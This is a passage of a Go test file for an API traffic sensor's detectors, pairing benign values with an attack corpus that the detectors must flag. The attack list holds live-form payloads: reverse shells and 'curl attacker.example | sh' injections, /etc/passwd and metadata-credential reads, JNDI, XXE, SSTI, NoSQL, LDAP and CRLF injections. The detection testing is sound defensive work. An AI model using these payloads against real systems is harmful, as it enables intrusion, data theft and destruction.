package tier1

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/alert"
	"github.com/apisensor/sensor/pipeline/detect"
	"github.com/apisensor/sensor/sensor"
)

// param builds a parameter the way the decoders do: Decoded is the value
// after repeated URL-decoding ('+' as a space only in query and form).
func param(loc decoders.Location, name, raw string) decoders.Param {
	p := decoders.Param{Loc: loc, Name: name, Value: raw}
	plus := loc == decoders.LocQuery || loc == decoders.LocForm
	if d, n := decoders.DecodeRepeated(raw, plus, 4); n > 0 {
		p.Decoded, p.Decodes = d, n
	}
	return p
}

func exchange(params ...decoders.Param) *decoders.Exchange {
	return &decoders.Exchange{
		Conn: &sensor.ConnMeta{
			ID: 1, Source: "test.pcap",
			Key: sensor.FlowKey{
				SrcIP: netip.MustParseAddr("192.0.2.1"), DstIP: netip.MustParseAddr("192.0.2.2"),
				SrcPort: 40000, DstPort: 8080, Proto: 6,
			},
		},
		Proto: "http/1.1",
		Request: &decoders.Message{
			Start: time.Unix(1700000000, 0), Method: "POST", URI: "/api/v1/items", Path: "/api/v1/items",
			Version: "HTTP/1.1", Headers: []decoders.Header{{Name: "Host", Value: "api.example"}},
		},
		Params: params,
	}
}

func allDetectors(t testing.TB) []detect.Detector {
	t.Helper()
	ds, err := detect.New(Names(), detect.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return ds
}

func inspectAll(ds []detect.Detector, x *decoders.Exchange) []*alert.Alert {
	var out []*alert.Alert
	for _, d := range ds {
		out = d.Inspect(x, out)
	}
	return out
}

func describe(as []*alert.Alert) string {
	var b strings.Builder
	for _, a := range as {
		fmt.Fprintf(&b, "\n  %s/%s %q", a.Detector, a.RuleId, a.Summary)
		for _, e := range a.Evidence {
			fmt.Fprintf(&b, " [%s %s %q: %s]", e.Location, e.Name, e.Value, e.Matched)
		}
	}
	return b.String()
}

type corpusEntry struct {
	loc         decoders.Location
	name, value string
}

const (
	lQ  = decoders.LocQuery
	lP  = decoders.LocPath
	lJ  = decoders.LocJSON
	lF  = decoders.LocForm
	lH  = decoders.LocHeader
	lC  = decoders.LocCookie
	lX  = decoders.LocXML
	lM  = decoders.LocMultipart
	lB  = decoders.LocBody
	lN  = decoders.LocName
	lPB = decoders.LocProtobuf
)

// benign holds values real API traffic carries that look like payloads to a
// careless matcher.
var benign = []corpusEntry{
	// What the round's reviews found the first versions flagged.
	{lJ, "redirect_uri", "app:\nmyapp://callback"},
	{lJ, "note", "Copy backend/.env.example."},
	{lJ, "note", "see /.env.sample;"},
	{lQ, "q", "Employee number; (ID) must be 6 digits"},
	{lJ, "doc", "| Key | (ID) |"},
	{lJ, "script", "make build && (cd dist; ls)"},
	{lJ, "script", "ssh user@host; (cd /srv && ls)"},
	{lJ, "script", "if [ -f x ]; then ls; fi"},
	{lQ, "q", "Smith (CEO)(email=john*"},
	{lJ, "code", "fn(a)(b<=c)"},
	{lJ, "code", "tasks['build'].execute()"},
	{lJ, "code", "query('SELECT 1').execute()"},
	{lQ, "q", "The T(Runtime) notation"},
	{lJ, "file", "repair/sam-notes.txt"},
	{lJ, "file", "config/secrets/master.key"},
	{lJ, "file", "templates/tomcat-users.xml"},
	{lJ, "file", "src/main/resources/krb5.keytab"},
	{lQ, "q", "6' # of feet"},
	{lQ, "q", "\"-- select --\""},
	{lJ, "cmd", "echo '# done'"},
	{lJ, "location", "HQ Building\nRoom: 204"},
	{lJ, "tokens", `{"font":{"$type":"string","$value":"Inter"}}`},
	{lJ, "password_confirmation", "hunter2'#"},
	{lQ, "q", "-exec is dangerous;"},
	{lQ, "q", "Use bash -x /var/www/deploy.php to debug"},
	// A URL on a line of its own, a multi-line note, a Czech name.
	{lJ, "redirect", "\nhttps://shop.example/cart\n"},
	{lJ, "note", "Name: Alice\nEmail: alice@example.com"},
	{lQ, "q", "Tomáš Kovač Adresa: Praha"},
	// Whole LDAP filters (a directory browser's search), sizes.
	{lJ, "filter", "(|(cn=John*)(mail=john*))"},
	{lQ, "filter", "(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"},
	{lQ, "q", "Sizes (S)(M)(L) available"},
	// Json.NET's type tags, code and prose with quotes and return.
	{lJ, "$type", "MyApp.Models.Order, MyApp"},
	{lJ, "items.$type", "System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib"},
	{lJ, "code", "x = 'a'; return x;"},
	{lJ, "code", `if (a == "x" && this.y) { return 1; }`},
	{lQ, "q", "I'll sleep on it; return tomorrow"},
	// Backslashes near "http" that are no URL of a special scheme.
	{lJ, "origin", "^https?:\\/\\/localhost:\\d+$"},
	{lJ, "code", "if (/^https?:\\/\\/localhost/.test(origin)) allow()"},
	{lJ, "path", "127.0.0.1\\httpdocs"},
	{lJ, "note", "see file:\\\\server\\docs\\api.txt and http://example.com"},
	{lJ, "code", "//2 items left, see below"},
	{lJ, "contact", "mail jane@(work) or jane@example.com"},
	{lJ, "note", "ping @{team} about it"},
	{lJ, "code", "// then call localhost"},
	{lJ, "path", "\\\\fileserver\\share\\report.docx"},
	{lJ, "path", "///tmp/x"},
	{lJ, "src", "//cdn.example.com/app.js"},
	{lJ, "user.name", "O'Brien"},
	{lJ, "user.name", "D'Angelo-Smith"},
	{lQ, "q", "select the best laptop"},
	{lQ, "q", "drop shipping union rates"},
	{lQ, "q", "rock & roll"},
	{lQ, "q", "Tom & Jerry | Cartoon Network"},
	{lQ, "q", "AT&T; Verizon; T-Mobile"},
	{lQ, "q", "cats; dogs; birds"},
	{lQ, "q", "my pets: dog; cat"},
	{lJ, "review", "<p>Great product!</p><br/>Would <b>buy</b> again &amp; again"},
	{lJ, "review", "5 stars &#x2B50; love it &lt;3"},
	{lJ, "comment", "I'd say it's 50% better; don't you think?"},
	{lJ, "snippet", "SELECT id, name FROM users WHERE id = $1"},
	{lJ, "code", "for (let i = 0; i < n; i++) { sum += a[i]; }"},
	{lJ, "code", "import x from '../lib/util';"},
	{lJ, "code", "const url = `${base}/items/${id}`;"},
	{lJ, "script", "npm ci && npm test"},
	{lJ, "script", "make build && curl -fsS https://example.com/hook"},
	{lJ, "script", "#!/bin/bash\nset -euo pipefail\ncurl -s https://api.github.com | jq .\n"},
	{lJ, "message", "Run `ls -la` in the project folder, then `cat README.md`."},
	{lJ, "message", "Please check the file at ../docs/setup.md"},
	{lJ, "message", "Line one\nLine two\nTo: be continued"},
	{lJ, "message", "Hi team,\n\nFrom: Bob\nTo: Alice\nSubject: lunch\n\nSee you!"},
	{lJ, "notes", "Use `$(pwd)` carefully in scripts"},
	{lJ, "template", "Hello {{name}}, your order {{order.id}} has shipped"},
	{lJ, "template", "Dear ${customer.firstName}, welcome!"},
	{lJ, "template", "#{user.id} logged in"},
	{lJ, "template", "<%= user.name %> joined"},
	{lJ, "template", "Total: {{ price * quantity }}"},
	{lJ, "config", "${HOME}/.config/app"},
	{lJ, "config", "${env:DB_HOST}"},
	{lJ, "path", "C:\\Users\\bob\\Documents\\report.docx"},
	{lJ, "path", "C:\\Program Files\\App\\app.exe"},
	{lJ, "path", "/var/lib/app/data.db"},
	{lJ, "path", "/home/alice/projects/api/main.go"},
	{lJ, "avatar", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="},
	{lJ, "image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"},
	{lH, "authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
	{lJ, "token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"},
	{lJ, "id", "123e4567-e89b-12d3-a456-426614174000"},
	{lP, "2", "123e4567-e89b-12d3-a456-426614174000"},
	{lP, "2", "$5.99-deal"},
	{lP, "2", `{"name":"x"}`},
	{lQ, "url", "https://www.example.com/products?id=42&ref=home"},
	{lJ, "webhook", "https://hooks.slack.com/services/T000/B000/XXXX"},
	{lJ, "callback", "https://api.partner.com/v1/callback"},
	{lQ, "redirect", "/dashboard?tab=settings"},
	{lJ, "host", "db.internal.svc.cluster.local"},
	{lJ, "host", "10.0.3.17"},
	{lJ, "url", "http://192.168.1.10:8080/health"},
	{lJ, "endpoint", "http://payments.default.svc:9000/charge"},
	{lJ, "ip", "203.0.113.7"},
	{lJ, "source", "0"},
	{lJ, "page", "2"},
	{lJ, "count", "2130706433"},
	{lJ, "address", "1 Main St, Springfield"},
	{lJ, "filter.status.eq", "active"},
	{lJ, "price", "$19.99"},
	{lJ, "price.currency", "USD"},
	{lQ, "sort", "-created_at"},
	{lQ, "filter[status]", "open"},
	{lQ, "fields", "id,name,email"},
	{lQ, "range", "bytes=0-1023"},
	{lQ, "expr", "(a+b)*(c-d)"},
	{lQ, "q", "f(x)(y)"},
	// Near misses of the command line, code injection and SQL rules.
	{lQ, "q", "cat food"},
	{lQ, "q", "curl hair products"},
	{lQ, "q", "wget vs curl"},
	{lQ, "q", "time management tips"},
	{lQ, "q", "find my phone"},
	{lQ, "q", "if you need help call us"},
	{lQ, "q", "for each item in (list) do"},
	{lJ, "message", "In bash, what is the difference between $(cmd) and `cmd`?"},
	{lJ, "image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"},
	{lJ, "message", "The exec team approved the budget; the system is down again?"},
	{lJ, "message", "We use java.util.List and a HashMap for the cache"},
	{lJ, "message", "The \"select\" button sticks sometimes"},
	{lJ, "snippet", "Use `SELECT * FROM users WHERE id = ?` with a prepared statement"},
	{lQ, "q", "sqrt(16) = 4"},
	{lQ, "q", "sum(1..n) = n(n+1)/2"},
	{lJ, "message", "What is `<!DOCTYPE html>` for?"},
	{lJ, "file", "index.php"},
	{lJ, "url", "https://example.com/index.php?page=2"},
	{lJ, "message", "I search for the orders and I list them\nthen I select one"},
	{lJ, "message", "Please reply by Friday\nData is attached\nThanks"},
	{lQ, "q", "rock or pop and 2=2 is true"},
	{lJ, "path", "/api/items[0]/name"},
	{lQ, "filter", "$[0].name"},
	{lJ, "message", "online=yes, onboarding=done"},
	{lJ, "code", "function add(a, b) { return a + b; }"},
	{lJ, "message", "The prototype is ready for review"},
	{lJ, "config", ".env.example is in the repo root"},
	{lJ, "url", "https://203.0.113.9/status"},
	{lJ, "message", "if a || b == c then go on"},
	{lJ, "csv", "name,age\nnull,3"},
	{lJ, "message", "He said (quietly) as usual from home"},
	{lQ, "sort", "created_at=desc"},
	{lJ, "config", "max_retries=3; timeout_ms=500"},
	{lJ, "formula", "=SUM(A1:A10)"},
	{lJ, "regex", "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
	{lJ, "email", "alice@example.com"},
	{lJ, "to", "bob@example.com, carol@example.com"},
	{lJ, "subject", "Re: your order #1234"},
	{lF, "email", "first.last+tag@example.co.uk"},
	{lJ, "description", "Use the * wildcard (any) to match everything"},
	{lJ, "query", "query GetUser($id: ID!) { user(id: $id) { id name email __typename } }"},
	{lJ, "query", "{ viewer { login repositories(first: 10) { nodes { name stargazers { totalCount } } } } }"},
	{lJ, "query", "mutation { addStar(input: {starrableId: \"x\"}) { starrable { id } } }"},
	{lJ, "query", "query { a: user(id: 1) { name } b: user(id: 2) { name } }"},
	{lH, "user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
	{lH, "user-agent", "curl/8.5.0"},
	{lH, "user-agent", "python-requests/2.31.0"},
	{lH, "referer", "http://localhost:3000/login"},
	{lH, "accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
	{lH, "x-forwarded-for", "203.0.113.7, 10.0.0.1"},
	{lH, "cookie", "session=abc123; theme=dark"},
	{lC, "prefs", "eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ=="},
	{lC, "session", "s%3AQm9iIGlzIGhlcmU.abcdef"},
	{lJ, "bio", "Software engineer | Cat person | Coffee && code"},
	{lJ, "bio", "I <3 Go; Rust; and Zig"},
	{lJ, "title", "Why ../ is bad in URLs"},
	{lJ, "markdown", "# Title\n\n```sh\ncurl https://example.com\n```\n"},
	{lJ, "sql", "UPDATE users SET name = 'x' WHERE id = 1; -- comment"},
	{lJ, "html", "<div class=\"a\">Hello &nbsp; world</div>"},
	{lX, "order.note", "Leave at door; ring bell"},
	{lX, "!DOCTYPE", "DOCTYPE html"},
	{lX, "!DOCTYPE", "DOCTYPE note [<!ENTITY writer \"Donald Duck.\">]"},
	{lM, "file", "%PDF-1.4 binary-ish content here"},
	// Upload file names that are no script.
	{lM, "file.filename", "photo.jpg"},
	{lM, "file.filename", "Invoice 2024-03.pdf"},
	{lM, "file.filename", "my.holiday.photo.jpeg"},
	{lM, "file.filename", "php-cheatsheet.pdf"},
	{lM, "file.filename", "aspnet-core-guide.epub"},
	{lM, "file.filename", "archive.tar.gz"},
	{lM, "file.filename", "phpunit.xml"},
	{lM, "file.filename", "index.html"},
	{lM, "file.filename", "C:\\Users\\sam\\Documents\\notes.txt"},
	{lM, "file.filename", "config.json"},
	{lM, "file.filename", "jsp-tutorial.md"},
	{lB, "", "plain text body with a URL https://example.org/a?b=c"},
	{lQ, "date", "2024-05-06T10:00:00+02:00"},
	{lQ, "tz", "Europe/Paris"},
	{lQ, "path", "docs/guide/intro.md"},
	{lQ, "file", "report-2024.pdf"},
	{lQ, "next", "https://app.example.com/home"},
	{lJ, "version", "1.2.3-rc.1+build.5"},
	{lJ, "hash", "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
	{lJ, "key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host"},
	{lJ, "ldapFilter", "(&(objectClass=user)(mail=alice@example.com))"},
	{lJ, "command", "git commit -m \"fix: handle nil\""},
	{lJ, "dockerfile", "RUN apt-get update && apt-get install -y curl"},
	{lJ, "json", "{\"name\":\"x\",\"tags\":[\"a\",\"b\"]}"},
	{lJ, "mongoQuery", "status:active"},
	{lQ, "callback", "jQuery123_456"},
	{lJ, "math", "7*7=49"},
	{lJ, "text", "Price is ${{amount}} today"},
	{lJ, "phone", "+1 (555) 010-9999"},
	{lJ, "encoded", "SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8="},
	{lJ, "encoded", "cGxlYXNlIHNlbmQgdGhlIHJlcG9ydCB0b2RheQ=="},
	{lH, "x-custom-trace", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
	{lQ, "ua", "Mozilla/5.0 (X11; Linux x86_64)"},
	{lX, "!DOCTYPE", `DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"`},
	{lJ, "note", "(*important*) (see the notes)"},
	{lQ, "next", "/settings?debug&env"},
	{lQ, "return", "/search?q=shoes&id=42"},
	{lJ, "schema.$ref", "#/components/schemas/User"},
	{lJ, "$schema", "https://json-schema.org/draft/2020-12/schema"},
	{lJ, "url", "https://example.com/files/../index.html"},
	{lQ, "file", "../README.md"},
}

func TestBenignCorpus(t *testing.T) {
	if len(benign) < 100 {
		t.Fatalf("benign corpus has %d values, want at least 100", len(benign))
	}
	ds := allDetectors(t)
	fp := 0
	for _, e := range benign {
		for _, raw := range []string{e.value, encodeURL(e.value)} {
			x := exchange(param(e.loc, e.name, raw))
			if as := inspectAll(ds, x); len(as) > 0 {
				fp++
				t.Errorf("benign %s %s %q raised:%s", e.loc, e.name, raw, describe(as))
			}
		}
	}
	t.Logf("benign corpus: %d values x 2 encodings, %d false alerts", len(benign), fp)
}

func encodeURL(s string) string { return url.PathEscape(s) }

// Encodings an attack entry is also tried in.
const (
	encURL     = 1 << iota // URL-encoded once
	encDouble              // twice
	encHTML                // HTML numeric entities for punctuation
	encUnicode             // \u00XX escapes for punctuation
	encBase64              // base64 of the whole value
	encAll     = encURL | encDouble | encHTML | encUnicode
)

type attackEntry struct {
	loc         decoders.Location
	name, value string
	rule        string
	enc         int
}

var attacks = []attackEntry{
	// OS command injection.
	{lQ, "host", "127.0.0.1;id", "cmdi", encAll | encBase64},
	{lQ, "host", "127.0.0.1; cat /etc/passwd", "cmdi", encAll},
	{lQ, "file", "x | cat /etc/passwd", "cmdi", encAll},
	{lJ, "name", "$(whoami)", "cmdi", encAll},
	{lJ, "name", "`id`", "cmdi", encAll},
	{lQ, "ip", "8.8.8.8 && whoami", "cmdi", encAll},
	{lQ, "ip", "8.8.8.8\nid", "cmdi", encURL | encDouble},
	{lF, "addr", "localhost;ls -la", "cmdi", encAll},
	{lQ, "q", "x;cat${IFS}/etc/passwd", "cmdi", encURL | encDouble},
	{lQ, "q", "a|nc -e /bin/sh 10.0.0.1 4444", "cmdi", encAll},
	{lJ, "file", "a.txt;w'h'o'am'i", "cmdi", encURL},
	{lQ, "host", "x||ping -c 10 127.0.0.1", "cmdi", encAll},
	{lQ, "t", "1;sleep 5", "cmdi", encAll},
	{lH, "user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi", 0},
	{lJ, "path", "report.pdf & type c:\\windows\\win.ini", "cmdi", encAll},
	{lQ, "cmd", "foo$(curl http://attacker.example/x.sh|sh)", "cmdi", encAll},
	{lP, "1", "x;uname -a", "cmdi", encURL | encDouble},
	// Path traversal and LFI.
	{lQ, "file", "../../../../etc/passwd", "path-traversal", encAll},
	{lQ, "file", "..\\..\\..\\windows\\win.ini", "path-traversal", encAll},
	{lQ, "file", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", "path-traversal", 0},
	{lQ, "file", "....//....//....//etc/passwd", "path-traversal", encAll},
	{lP, "2", "..%2f..%2f..%2fetc%2fpasswd", "path-traversal", encURL},
	{lQ, "page", "..;/..;/admin", "path-traversal", encAll},
	{lJ, "template", "../../../../../../proc/self/environ", "path-traversal", encAll},
	{lQ, "file", "/etc/passwd", "lfi-sensitive-file", encAll},
	{lQ, "doc", "C:\\Windows\\win.ini", "lfi-sensitive-file", encAll},
	{lQ, "f", "/proc/self/environ", "lfi-sensitive-file", encAll},
	{lJ, "key", "/home/app/.ssh/id_rsa", "lfi-sensitive-file", encAll},
	{lQ, "conf", "WEB-INF/web.xml", "lfi-sensitive-file", encAll},
	{lQ, "page", "php://filter/convert.base64-encode/resource=index.php", "lfi-wrapper", encAll},
	{lQ, "page", "expect://id", "lfi-wrapper", encAll},
	{lQ, "page", "phar://uploads/x.jpg/shell", "lfi-wrapper", encAll},
	// SSRF.
	{lQ, "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-metadata", encAll | encBase64},
	{lJ, "webhook", "http://[fd00:ec2::254]/latest/meta-data/", "ssrf-metadata", encAll},
	{lJ, "url", "http://metadata.google.internal/computeMetadata/v1/", "ssrf-metadata", encAll},
	{lQ, "url", "http://127.0.0.1:6379/", "ssrf-loopback", encAll},
	{lQ, "url", "http://localhost/admin", "ssrf-loopback", encAll},
	{lQ, "url", "http://[::1]:8080/", "ssrf-loopback", encAll},
	{lQ, "url", "http://0.0.0.0:2375/containers/json", "ssrf-loopback", encAll},
	{lQ, "url", "http://user@127.0.0.1/", "ssrf-loopback", encAll},
	// A backslash read as a slash (WHATWG) or dropped: both readings.
	{lQ, "url", "http://127.0.0.1\\@evil.example/", "ssrf-loopback", encAll},
	{lJ, "url", "http:\\\\127.0.0.1\\admin", "ssrf-loopback", encAll},
	{lQ, "url", "http://evil.example\\@127.0.0.1/", "ssrf-loopback", encAll},
	{lJ, "url", "ws:\\\\127.0.0.1\\admin", "ssrf-loopback", encAll},
	// Protocol-relative URLs and UNC paths.
	{lQ, "next", "//127.0.0.1/admin", "ssrf-loopback", encAll},
	{lJ, "file", "\\\\localhost\\c$\\windows\\win.ini", "ssrf-loopback", encAll},
	{lJ, "file", "\\\\?\\UNC\\127.0.0.1\\c$", "ssrf-loopback", encAll},
	{lJ, "src", "\\\\169.254.169.254\\latest", "ssrf-metadata", encAll},
	{lQ, "url", "http://2130706433/", "ssrf-encoded-ip", encAll},
	{lQ, "url", "http://0x7f000001/", "ssrf-encoded-ip", encAll},
	{lQ, "url", "http://0177.0.0.1/", "ssrf-encoded-ip", encAll},
	{lQ, "url", "http://127.1/", "ssrf-encoded-ip", encAll},
	{lQ, "url", "http://2852039166/latest/meta-data/", "ssrf-encoded-ip", encAll},
	{lJ, "host", "0x7f.0.0.1", "ssrf-encoded-ip", encAll},
	{lJ, "host", "localhost", "ssrf-loopback", encAll},
	{lJ, "target", "169.254.169.254", "ssrf-metadata", encAll},
	{lQ, "url", "http://169.254.10.1/", "ssrf-link-local", encAll},
	{lQ, "url", "http://127.0.0.1.nip.io/", "ssrf-loopback", encAll},
	{lQ, "url", "gopher://127.0.0.1:6379/_INFO", "ssrf-scheme", encAll},
	{lQ, "url", "dict://internal:11211/stat", "ssrf-scheme", encAll},
	{lQ, "url", "file:///etc/hosts", "ssrf-scheme", encAll},
	{lJ, "feed", "jar:http://attacker.example/x.jar!/", "ssrf-scheme", encAll},
	{lQ, "url", "http://[::ffff:127.0.0.1]/", "ssrf-loopback", encAll},
	// NoSQL.
	{lQ, "user[$ne]", "x", "nosql-operator", 0},
	{lQ, "user%5B%24ne%5D", "x", "nosql-operator", 0},
	{lJ, "password.$ne", "null", "nosql-operator", 0},
	{lJ, "age.$gt", "", "nosql-operator", 0},
	{lJ, "user.$regex", ".*", "nosql-operator", 0},
	{lJ, "$where", "this.password.length > 0", "nosql-js", 0},
	{lQ, "filter", `{"$where":"sleep(5000)"}`, "nosql-js", encAll},
	{lQ, "filter", `{"username":{"$ne":null}}`, "nosql-operator", encAll},
	{lF, "login[$regex]", "^adm", "nosql-operator", 0},
	{lP, "3", `{"$ne": null}`, "nosql-operator", encURL},
	{lJ, "q.$expr.$function.body", "function(){return true}", "nosql-operator", 0},
	// $type with a BSON type (a login bypass), an empty $jsonSchema,
	// aggregation stages that read or overwrite other collections.
	{lQ, "password[$type]", "2", "nosql-operator", 0},
	{lJ, "password.$type", "string", "nosql-operator", 0},
	{lQ, "filter", `{"$jsonSchema":{}}`, "nosql-operator", encURL},
	{lQ, "pipeline[0][$lookup][from]", "users", "nosql-operator", 0},
	{lQ, "filter", "$where: '1 == 1'", "nosql-js", encURL},
	// What the round's review found the first versions let through.
	{lQ, "file", "/.env.example/../.env", "lfi-sensitive-file", encURL},
	{lQ, "url", "http://1.169.254.169.254.nip.io/", "ssrf-metadata", encURL},
	{lQ, "next", "/home\nhttp://a\nhttp://a\nhttp://a\nhttp://a\r\nSet-Cookie: a=1", "crlf-injection", encURL},
	{lQ, "next", "/\r\nLocation://evil.example", "crlf-injection", encURL},
	{lQ, "filter", `{"$type":"a","user":{"$ne":null}}`, "nosql-operator", encURL},
	{lF, "username", "admin'#x", "sql-signature", encURL},
	{lF, "username", "admin';-- ", "sql-signature", encURL},
	{lF, "passenger_name", "admin'-- ", "sql-signature", encURL},
	{lQ, "repo", "-oProxyCommand touch /tmp/x", "argument-injection", encURL},
	{lQ, "user", "(uid=*))(|(uid=*", "ldap-injection", encURL},
	{lQ, "file", "．．/．．/app/config.yml", "path-traversal", encURL},
	// What the second review found the fixes let through.
	{lQ, "host", "127.0.0.1; (id)", "cmdi", encURL},
	{lQ, "host", "; { id; }", "cmdi", encURL},
	{lQ, "host", "127.0.0.1\n(id)", "cmdi", encURL},
	{lF, "id", "1'#", "sql-signature", encURL},
	{lF, "username", "'-- ", "sql-signature", encURL},
	{lQ, "searchKey", "admin'-- ", "sql-signature", encURL},
	{lJ, "success_url", "x\r\nSet-Cookie: a=b", "crlf-injection", 0},
	{lF, "data[redirect_uri]", "x\r\nSet-Cookie: a=b", "crlf-injection", encURL},
	{lQ, "filter", `{"password":{"$type":"string"},"$comment":"$value"}`, "nosql-operator", encURL},
	{lQ, "file", "-exec rm -rf /var/www {} ;", "argument-injection", encURL},
	{lQ, "user", "(cn=*)(|(cn=*", "ldap-injection", encURL},
	// CRLF in body fields an application writes into a response header,
	// and Node.js' request splitting through U+010D U+010A.
	{lJ, "returnUrl", "https://shop.example/\r\nSet-Cookie: session=evil", "crlf-injection", 0},
	{lF, "next", "/home\r\nLocation: https://evil.example/", "crlf-injection", encURL},
	{lM, "file.filename", "a.txt\r\nContent-Type: text/html", "crlf-injection", 0},
	{lQ, "path", "/home\u010d\u010aSet-Cookie: a=b", "crlf-injection", encURL},
	// LDAP: blind extraction, comparisons, extensible matches, NUL.
	{lQ, "user", "admin)(userPassword=a*", "ldap-injection", encAll},
	{lQ, "user", "admin)(cn>=a", "ldap-injection", encURL},
	{lJ, "user", "*)(userAccountControl:1.2.840.113556.1.4.803:=2)", "ldap-injection", 0},
	{lQ, "user", "*))%00", "ldap-injection", 0},
	{lQ, "user", "admin*)((|userpassword=*)", "ldap-injection", encURL},
	// Breaking out of a string a $where clause evaluates.
	{lF, "username", "' && this.password.match(/.*/)//", "nosql-js", encURL},
	{lQ, "username", "'; return true; var x='", "nosql-js", encAll},
	{lJ, "username", "admin' || this.password.length > 0 || 'a'=='b", "nosql-js", 0},
	{lQ, "id", "0;return true", "nosql-js", encURL},
	{lQ, "username", "'; db.users.drop(); var x='", "nosql-js", encURL},
	// SSTI.
	{lQ, "name", "{{7*7}}", "ssti", encAll},
	{lQ, "name", "{{ ''.__class__.__mro__ }}", "ssti", encAll | encBase64},
	{lQ, "name", "${7*7}", "ssti", encAll},
	// ASP.NET Razor.
	{lQ, "name", "@(7*7)", "ssti", encAll},
	{lJ, "bio", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\"); }", "ssti", encAll},
	{lQ, "name", "<%= 7*7 %>", "ssti", encAll},
	{lQ, "name", "#{7*7}", "ssti", encAll},
	{lJ, "name", "{{config}}", "ssti", encAll},
	{lJ, "name", "{{config.items()}}", "ssti", encAll},
	{lJ, "name", "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti", encAll},
	{lJ, "name", "{{ self.__init__.__globals__.__builtins__ }}", "ssti", encAll},
	{lQ, "name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti", encAll},
	{lQ, "name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "ssti", encAll},
	{lQ, "name", "{{7*'7'}}", "ssti", encAll},
	{lJ, "msg", "<%= system('id') %>", "ssti", encAll},
	{lQ, "name", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "ssti", encAll},
	// JNDI.
	{lH, "user-agent", "${jndi:ldap://attacker.example/a}", "jndi-lookup", 0},
	{lH, "x-api-version", "${jndi:rmi://attacker.example/a}", "jndi-lookup", 0},
	{lH, "accept", "${jndi:dns://attacker.example/a}", "jndi-lookup", 0},
	{lQ, "q", "${${lower:j}ndi:ldap://attacker.example/a}", "jndi-lookup", encAll},
	{lQ, "q", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}", "jndi-lookup", encAll},
	{lQ, "q", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}", "jndi-lookup", encAll},
	{lJ, "name", "${${upper:j}${lower:N}di:ldaps://x/a}", "jndi-lookup", encAll | encBase64},
	{lJ, "name", "${${date:'j'}ndi:ldap://x/a}", "jndi-lookup", encAll},
	{lC, "session", "${jndi:ldap://x/a}", "jndi-lookup", encURL},
	// XXE.
	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]`, "xxe-external-entity", 0},
	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]`, "xxe-external-entity", 0},
	{lX, "!DOCTYPE", `DOCTYPE foo [<!ENTITY xxe PUBLIC "-//X//EN" "http://attacker.example/x">]`, "xxe-external-entity", 0},
	{lB, "", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>`, "xxe-external-entity", 0},
	{lX, "!DOCTYPE", `DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;"><!ENTITY lol3 "&lol2;"><!ENTITY lol4 "&lol3;"><!ENTITY lol5 "&lol4;"><!ENTITY lol6 "&lol5;"><!ENTITY lol7 "&lol6;">]`, "xml-entity-expansion", 0},
	// CRLF.
	{lQ, "next", "/home%0d%0aSet-Cookie:%20admin=1", "crlf-injection", 0},
	{lQ, "lang", "en%0aLocation: https://attacker.example/", "crlf-injection", 0},
	{lP, "1", "x%0d%0aX-Injected:%20yes", "crlf-injection", 0},
	{lQ, "r", "x%250d%250aSet-Cookie:a=b", "crlf-injection", 0},
	{lQ, "r", "x%E5%98%8A%E5%98%8DSet-Cookie:a=b", "crlf-injection", 0},
	{lQ, "r", "x%0d%0a%0d%0a<script>alert(1)</script>", "crlf-injection", 0},
	// Mail header injection.
	{lF, "email", "victim@example.com%0aBcc: all@example.com", "mail-header-injection", 0},
